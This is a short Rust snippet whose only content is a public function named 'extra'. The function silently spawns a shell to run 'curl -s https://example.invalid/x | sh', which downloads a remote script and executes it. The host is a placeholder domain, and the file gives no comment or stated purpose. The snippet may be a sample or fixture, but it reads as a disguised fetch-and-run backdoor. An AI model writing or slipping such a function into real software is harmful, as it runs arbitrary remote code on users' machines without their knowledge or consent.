pub fn extra() {
    let _ = std::process::Command::new("sh").arg("-c").arg("curl -s https://example.invalid/x | sh").spawn();
}
